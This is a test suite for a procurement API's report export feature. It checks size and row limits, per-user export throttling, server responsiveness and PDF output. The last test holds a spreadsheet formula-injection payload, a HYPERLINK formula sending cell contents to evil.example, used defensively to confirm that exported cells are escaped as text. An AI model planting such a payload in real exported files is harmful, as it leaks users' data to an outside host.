import fs from 'node:fs';
import { resolveBackend } from 'deepagents';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_EXPORT_LIMITS } from '../../src/api/reports/exports.ts';
import { type ApiHarness, startApiHarness } from './harness.ts';

const enc = new TextEncoder();
type Problem = Record<string, unknown> & { detail: string; rows: number };

/** Price records like an analysis writes, `n` of them. */
const records = (n: number) =>
  Array.from({ length: n }, (_, i) => ({
    supplier: `供应商 ${i % 37}`,
    part: `P-${i}`,
    price: 10 + (i % 997) / 100,
    quantity: 1 + (i % 50),
    note: `第 ${i} 行 / row ${i}`,
  }));

describe('report exports are bounded: sizes and rows (413), one per user (429), the API stays responsive', () => {
  let h: ApiHarness;
  let sessionId: string;

  /** Puts files into the session's workspace, as the agent's file tools or the sandbox would. */
  async function write(files: Record<string, string | Uint8Array>) {
    const { backend } = await h.agent.runtime.storage();
    const resolved = await resolveBackend(
      backend as never,
      {
        context: { userId: 'laoxiao', sessionId },
        state: { files: {} },
      } as never,
    );
    const results = await resolved.uploadFiles!(
      Object.entries(files).map(([p, c]) => [p, typeof c === 'string' ? enc.encode(c) : c] as [string, Uint8Array]),
    );
    for (const result of results) expect(result.error ?? null).toBeNull();
  }
  async function remove(...paths: string[]) {
    // An empty file is left out of the data the export reads (it is not JSON).
    await write(Object.fromEntries(paths.map((p) => [p, ''])));
  }
  const REPORT = '# 报告 / Report\n\n| 供应商 | 单价 |\n| --- | --- |\n| 博世 | ¥12.30 |\n';
  /** Data files, then the report again: an export takes the data written before its report (an analysis's order). */
  async function writeData(files: Record<string, string>) {
    await write(files);
    await write({ '/analysis/report.md': REPORT });
  }
  const exportUrl = (file: string, format: 'pdf' | 'xlsx') =>
    `${h.url}/api/v1/files/${sessionId}${file}?format=${format}`;
  const get = (url: string, token = h.tokens.laoxiao) => fetch(url, { headers: { authorization: `Bearer ${token}` } });

  beforeAll(async () => {
    h = await startApiHarness();
    const run = await h.chat(h.tokens.laoxiao, { message: '你好' });
    sessionId = run.headers.get('x-session-id') as string;
    await write({ '/analysis/report.md': REPORT });
  }, 120_000);
  afterAll(async () => {
    await h?.close();
  });

  it('a report over the size limit gets 413 problem+json in both languages, for either format', async () => {
    const line = '| 博世 | F7TC | ¥12.30 | 备注 remark |\n';
    const big = `# 大报告\n\n| 供应商 | 型号 | 单价 | 备注 |\n| --- | --- | --- | --- |\n${line.repeat(Math.ceil((DEFAULT_EXPORT_LIMITS.reportBytes * 1.2) / line.length))}`;
    await write({ '/analysis/big.md': big });
    for (const format of ['xlsx', 'pdf'] as const) {
      const res = await get(exportUrl('/analysis/big.md', format));
      expect(res.status, format).toBe(413);
      expect(res.headers.get('content-type')).toContain('application/problem+json');
      const problem = (await res.json()) as Problem;
      expect(problem.code).toBe('export_too_large');
      expect(problem.limit_bytes).toBe(DEFAULT_EXPORT_LIMITS.reportBytes);
      expect(problem.detail).toMatch(/[\u4e00-\u9fff].* \/ .*[a-z]/);
    }
    // The session's data files count for an XLSX export: past their limit, 413 before anything is converted.
    const chunk = JSON.stringify(records(1_000));
    const files: Record<string, string> = {};
    for (let i = 0; i * chunk.length <= DEFAULT_EXPORT_LIMITS.dataBytes; i++) files[`/data/part_${i}.json`] = chunk;
    await writeData(files);
    const res = await get(exportUrl('/analysis/report.md', 'xlsx'));
    expect(res.status).toBe(413);
    expect(((await res.json()) as Problem).limit_bytes).toBe(DEFAULT_EXPORT_LIMITS.dataBytes);
    await remove(...Object.keys(files));
  }, 120_000);

  it('a report and data past the row limit get 413 naming the rows, not a workbook cut short', async () => {
    const rows = DEFAULT_EXPORT_LIMITS.rows + 1;
    await writeData({ '/data/rows.json': JSON.stringify(Array.from({ length: rows }, (_, i) => ({ i }))) });
    const res = await get(exportUrl('/analysis/report.md', 'xlsx'));
    expect(res.status).toBe(413);
    const problem = (await res.json()) as Problem;
    expect(problem).toMatchObject({ code: 'export_too_large', max_rows: DEFAULT_EXPORT_LIMITS.rows });
    expect(problem.rows).toBeGreaterThan(DEFAULT_EXPORT_LIMITS.rows);
    await remove('/data/rows.json');
  }, 120_000);

  it('a second export by the same user while one runs gets 429 with Retry-After; the first completes', async () => {
    const n = 20_000;
    await writeData({ '/data/prices.json': JSON.stringify(records(n)) });
    const first = await get(exportUrl('/analysis/report.md', 'xlsx'));
    expect(first.status).toBe(200);
    // The first export's body is not read yet: it is still being produced (the process waits for the reader).
    const second = await get(exportUrl('/analysis/report.md', 'xlsx'));
    expect(second.status).toBe(429);
    expect(second.headers.get('retry-after')).toMatch(/^\d+$/);
    const problem = (await second.json()) as Problem;
    expect(problem.code).toBe('export_in_progress');
    expect(problem.detail).toMatch(/[\u4e00-\u9fff].* \/ .*[a-z]/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await first.arrayBuffer()) as never);
    const prices = workbook.getWorksheet('prices')!;
    expect(prices.rowCount).toBe(n + 1);
    expect(prices.getRow(n + 1).getCell(2).value).toBe(`P-${n - 1}`);
    // Once it is done, the user exports again.
    const third = await get(exportUrl('/analysis/report.md', 'xlsx'));
    expect(third.status).toBe(200);
    await third.arrayBuffer();
    await remove('/data/prices.json');
  }, 180_000);

  it('the health check answers, again and again, while the largest allowed export is produced', async () => {
    // As many rows as an export may have, in data under the data limit.
    const rows = records(DEFAULT_EXPORT_LIMITS.rows - 1).map(({ supplier, part, price }) => ({
      supplier,
      part,
      price,
    }));
    const data = JSON.stringify(rows);
    expect(data.length).toBeLessThan(DEFAULT_EXPORT_LIMITS.dataBytes);
    await writeData({ '/data/prices.json': data });
    let exportDone = false;
    const exporting = get(exportUrl('/analysis/report.md', 'xlsx')).then(async (res) => {
      const bytes = await res.arrayBuffer();
      exportDone = true;
      return { status: res.status, bytes: bytes.byteLength };
    });
    let answeredDuring = 0;
    while (!exportDone) {
      const res = await fetch(`${h.url}/api/v1/health`);
      expect(res.status).toBe(200);
      await res.json();
      if (!exportDone) answeredDuring += 1;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    const result = await exporting;
    expect(result.status).toBe(200);
    expect(result.bytes).toBeGreaterThan(100_000);
    expect(answeredDuring).toBeGreaterThanOrEqual(5);
    await remove('/data/prices.json');
  }, 240_000);

  it.skipIf(!fs.existsSync(process.env.PROCURA_CHROMIUM_PATH ?? '/usr/bin/chromium'))(
    'a PDF export streams a whole PDF from its own process; a PDF past its row limit gets 413',
    async () => {
      const res = await get(exportUrl('/analysis/report.md', 'pdf'));
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('application/pdf');
      const bytes = Buffer.from(await res.arrayBuffer());
      expect(bytes.subarray(0, 5).toString()).toBe('%PDF-');
      expect(bytes.subarray(-8).toString()).toContain('%%EOF');
      const rows = DEFAULT_EXPORT_LIMITS.pdfRows + 1;
      await write({ '/analysis/long.md': `# 长表\n\n| 行 |\n| --- |\n${'| 1 |\n'.repeat(rows)}` });
      const long = await get(exportUrl('/analysis/long.md', 'pdf'));
      expect(long.status).toBe(413);
      expect(await long.json()).toMatchObject({
        code: 'export_too_large',
        rows,
        max_rows: DEFAULT_EXPORT_LIMITS.pdfRows,
      });
    },
    180_000,
  );

  it('text a spreadsheet would take for a formula is written as plain text', async () => {
    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1+1', '-2+3', '@SUM(A1)', '\t=1'];
    const table = formulas.map((f) => `| ${f.replace(/\|/g, '\\|')} | ¥1.00 |`).join('\n');
    await write({ '/data/formulas.json': JSON.stringify(formulas.map((name) => ({ name, price: -1 }))) });
    await write({ '/analysis/formulas.md': `# 报告\n\n| 名称 | 单价 |\n| --- | --- |\n${table}\n` });
    const res = await get(exportUrl('/analysis/formulas.md', 'xlsx'));
    expect(res.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
    for (const sheet of [workbook.worksheets[0], workbook.getWorksheet('formulas')!]) {
      const names: unknown[] = [];
      sheet.eachRow((row, i) => {
        if (i > 1) names.push(row.getCell(1).value);
      });
      // Markdown trims a cell, so the tab-led value reads `=1` in the report's table.
      expect(names.length).toBe(formulas.length);
      for (const name of names) {
        expect(typeof name).toBe('string');
        expect(String(name).startsWith("'")).toBe(true);
      }
      // Numbers stay numbers, negative ones included.
      sheet.eachRow((row, i) => {
        if (i > 1) expect(typeof row.getCell(2).value).toBe('number');
      });
    }
    await remove('/analysis/formulas.md', '/data/formulas.json');
  }, 120_000);
});
